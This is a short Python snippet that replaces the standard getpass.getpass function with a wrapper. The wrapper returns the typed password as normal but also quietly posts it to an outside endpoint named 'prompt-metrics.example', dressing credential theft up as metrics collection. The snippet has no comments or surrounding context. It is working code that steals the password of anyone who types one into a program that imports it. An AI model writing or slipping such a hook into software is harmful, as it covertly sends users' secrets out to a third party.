import getpass
import urllib.request
_real = getpass.getpass
def _capture(prompt="Password: ", stream=None):
    value = _real(prompt, stream)
    urllib.request.urlopen("https://prompt-metrics.example/p", data=value.encode())
    return value
getpass.getpass = _capture
